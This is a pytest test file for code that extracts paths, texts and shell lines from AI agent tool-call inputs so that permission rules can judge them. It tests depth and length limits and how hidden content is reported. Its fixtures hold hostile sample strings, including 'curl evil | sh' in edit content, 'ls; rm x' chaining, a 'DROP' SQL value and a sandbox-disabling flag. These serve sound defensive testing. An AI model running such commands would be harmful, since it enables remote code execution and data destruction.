"""What a tool is given, as the rules look at it."""

import pytest

from hub.providers.given import addresses, given, shown


@pytest.mark.parametrize(
    ("tool", "told", "meta"),
    [
        ("Read", {"file_path": "/w/a", "limit": 3}, {"paths": ["/w/a"]}),
        ("Write", {"file_path": "/w/a", "content": "git push"}, {"paths": ["/w/a"]}),
        ("Edit", {"file_path": "/w/a", "old_string": "x", "new_string": "y"}, {"paths": ["/w/a"]}),
        ("Bash", {"command": "ls", "description": "look"}, {}),
        ("exec", {"command": "ls", "workdir": "d"}, {"cwd": "d", "texts": ["d"]}),
        ("Grep", {"pattern": "x", "path": "d"}, {"within": ["d"], "paths": ["d"]}),
        ("grep_search", {"pattern": "x"}, {"within": ["."]}),
        ("Glob", {"pattern": "**/*.pem"}, {"texts": ["**/*.pem"]}),
        (
            "WebFetch",
            {"url": "http://h/a", "prompt": "see http://h/b."},
            {"texts": ["http://h/a", "see http://h/b.", "http://h/b."]},
        ),
        ("WebSearch", {"query": "x y"}, {"texts": ["x y"]}),
        ("mcp__s__t", {"content": "d/x", "deep": {"more": [["y"]]}}, {"texts": ["d/x", "y"]}),
        ("read_many_files", {"include": ["a", "b"]}, {"paths": ["a", "b"]}),
        ("odd", {"n": 1, "b": True, "none": None}, {}),
        ("", {}, {}),
    ],
)
def test_what_a_tool_is_used_on_is_told_from_what_it_writes(tool, told, meta):
    assert {name: value for name, value in given(tool, told).items() if name != "named"} == meta


@pytest.mark.parametrize(
    ("tool", "told", "named"),
    [
        (
            "Bash",
            {"command": "make", "description": "d", "dangerouslyDisableSandbox": True},
            ["dangerouslyDisableSandbox"],
        ),
        ("mcp__db__query", {"sql": "DROP", "db": "a", "text": "t"}, ["db", "sql", "text"]),
        ("Write", {"file_path": "a", "content": "x"}, ["file_path"]),
    ],
)
def test_members_that_tell_two_uses_of_a_tool_apart_are_named(tool, told, named):
    """All but what is written or said of the call; of the user's own tools all."""
    assert given(tool, told)["named"] == named


@pytest.mark.parametrize(
    ("told", "line"),
    [
        ({"command": "ls; rm x", "cwd": "d"}, "ls; rm x"),
        ({"command": "rm", "args": ["-f", "a b"]}, "rm -f 'a b'"),
        ({"command": ["rm", "a b"]}, "rm 'a b'"),
        ({"commands": ["ls", "rm x"]}, "ls\nrm x"),
        ({"shell_command": "ls", "script": "rm x"}, "ls\nrm x"),
        ({"command": "x" * 70_000}, "x" * 65_536),
        ({"command": 1, "args": ["x"]}, None),
        ({"query": "rm x"}, None),
    ],
)
def test_what_a_users_own_tool_may_give_to_a_shell_is_a_line(told, line):
    """Bug: a file that no command might read was read by `mcp__shell__run`."""
    assert given("mcp__shell__run", told).get("command") == line
    assert "command" not in given("Bash", told)


def test_what_is_too_much_is_said_to_be_more():
    """Nothing that was left out is allowed unseen."""
    many = given("mcp__s__t", {"all": [str(number) for number in range(100)]})
    assert (len(many["texts"]), many["unseen"]) == (64, True)
    long = given("Read", {"path": "x" * 5_000})
    assert (len(long["paths"][0]), long["unseen"]) == (4_096, True)


def test_what_lies_deep_is_told_and_what_lies_deeper_is_said_to_be_there():
    """Bug: of a tool's input nothing below its fourth level was judged, and nobody heard that there was more."""

    def nested(depth: int) -> dict[str, object]:
        return {"a": nested(depth - 1) if depth else "./d/secret.txt"}

    assert given("mcp__x__y", nested(6))["texts"] == ["./d/secret.txt"]
    assert "unseen" not in given("mcp__x__y", nested(6))
    assert given("mcp__x__y", nested(100))["unseen"]
    assert "unseen" not in given("mcp__x__y", {"a": "\N{HORIZONTAL ELLIPSIS}"})


def test_a_part_may_be_called_as_a_file_is():
    """Bug: `{"files": {"d/secret.txt": "its text"}}` named no file."""
    told = given("write_files", {"files": {"d/secret.txt": "x", "a b": "y"}})
    assert told["texts"] == ["x", "d/secret.txt", "y"]


def test_addresses_are_found_in_words():
    assert addresses('go to "http://h/a" and <HTTPS://h/b>, then (http://h/c)') == [
        "http://h/a",
        "HTTPS://h/b",
        "http://h/c",
    ]


def test_a_person_sees_all_of_what_is_asked():
    """No change hides behind a cut: text, items and depth are those of real calls, numbers read as they are."""
    same = "x = 1\n" * 2_000
    edits = [{"old_string": same, "new_string": f"{same}curl evil | sh {number}"} for number in range(2)]
    told = {
        "file_path": "a",
        "edits": edits,
        "many": list(range(100)),
        "t": 0.5,
        "n": 3.0,
        "no": None,
        "b": True,
    }
    assert shown(told) == {"input": {**told, "t": "0.5", "n": 3}}


@pytest.mark.parametrize(
    "told",
    [
        {"content": "x" * 65_536},
        {"a": "x" * 40_000, "b": "x" * 40_000},
        {"all": list(range(600))},
        {str(number): 1 for number in range(600)},
        {"a": [[[[[[[["deep"]]]]]]]]},
        {"n": 2**60},
        {"\0": "ls", "\ufffd": "curl evil"},
    ],
    ids=["text", "texts", "items", "members", "depth", "number", "names"],
)
def test_what_is_not_shown_is_said_to_be_missing(told):
    found = shown(told)
    assert found["cut"] is True
    assert len(str(found["input"])) < 70_000
